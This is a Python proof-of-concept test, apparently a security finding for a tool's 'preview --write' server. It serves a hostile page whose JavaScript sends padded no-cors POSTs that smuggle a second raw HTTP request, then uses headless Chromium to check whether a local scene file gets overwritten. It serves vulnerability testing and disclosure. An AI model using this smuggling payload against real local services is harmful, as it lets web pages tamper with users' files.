# SPDX-License-Identifier: MIT
# run in the project's root with FL naming the program: FL=build/program/src/fond-ladder python3 tests/found/web_page_overwrites.py
import os, tempfile
# A web page of another origin overwrites the file that "preview --write" serves. Runs headless Chromium.
import subprocess, time, threading, http.server, signal, tempfile, shutil, sys
F=os.environ['FL']; SC=os.path.join(tempfile.mkdtemp(),'victim.scene.json'); P=18921; E=18922
TXT=open('examples/quickstart.scene.json').read(); open(SC,'w').write(TXT)
p=subprocess.Popen([F,'preview',SC,'--write','--port',str(P)],stdout=subprocess.PIPE,stderr=subprocess.DEVNULL); print(p.stdout.readline())
PAGE='''<!doctype html><title>evil</title><script>
const PADS=[0,0,0,0,0,0,0,0,0,0].concat(Array.from({length:400},(_,i)=>3350+i)), P=%d, evil=JSON.stringify({format:1,scene:"owned by a web page",root:{kind:"row"}})+" ".repeat(3000);
(async()=>{ for(const pad of PADS) { const v=1; const body=`POST /scene HTTP/1.1\\r\\nHost: 127.0.0.1:${P}\\r\\nOrigin: http://127.0.0.1:${P}\\r\\nX-Made-From: ${v}\\r\\nContent-Length: ${evil.length}\\r\\n\\r\\n${evil}`;
 try{ await fetch(`http://127.0.0.1:${P}/`,{method:"POST",mode:"no-cors",body:"y".repeat(pad)+body}); }catch(e){} }
 try{await fetch(`http://127.0.0.1:18924/`,{method:'POST',mode:'no-cors',body:'z'.repeat(5000)});}catch(e){} document.title="done"; })();
</script>'''%P
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(s): s.send_response(200); s.send_header('Content-Type','text/html'); s.end_headers(); s.wfile.write(PAGE.encode())
    def log_message(s,*a): pass
h=http.server.ThreadingHTTPServer(('127.0.0.1',E),H); threading.Thread(target=h.serve_forever,daemon=True).start()
import socket
L=socket.socket(); L.bind(('127.0.0.1',18924)); L.listen(5)
def look():
    n=0
    while n<3:
        c,_=L.accept(); c.settimeout(1); sizes=[]
        try:
            while sum(sizes)<9000:
                x=c.recv(4096)
                if not x: break
                if not sizes: print('HEAD',x.find(b'\r\n\r\n')+4, x[:60])
                sizes.append(len(x))
        except Exception: pass
        print('recv sizes',sizes); c.close(); n+=1
threading.Thread(target=look,daemon=True).start()
from selenium import webdriver
from selenium.webdriver.chrome.options import Options
for label,extra in (('same address space',[]),) if 1 else (('same address space',[]),('page said to come from a public address',['--ip-address-space-overrides=127.0.0.1:%d=public'%E])):
    open(SC,'w').write(TXT); d=tempfile.mkdtemp(); o=Options(); o.binary_location=shutil.which('chromium')
    for a in ['--headless=new','--no-sandbox','--disable-gpu','--disable-background-networking','--user-data-dir='+d]+extra: o.add_argument(a)
    o.set_capability('goog:loggingPrefs',{'browser':'ALL'})
    b=webdriver.Chrome(options=o); print(label,b.capabilities['browserVersion'])
    b.get('http://evil.example:%d/'%E if False else 'http://localhost:%d/'%E)
    for _ in range(600):
        if b.title=='done': break
        time.sleep(.1)
    time.sleep(1)
    print('  ', 'FILE OVERWRITTEN' if open(SC).read()!=TXT else 'unchanged', [l['message'][:170] for l in b.get_log('browser')][:8]); b.quit(); shutil.rmtree(d,ignore_errors=True)
print(open(SC).read()[:80]); p.send_signal(signal.SIGINT); p.wait()
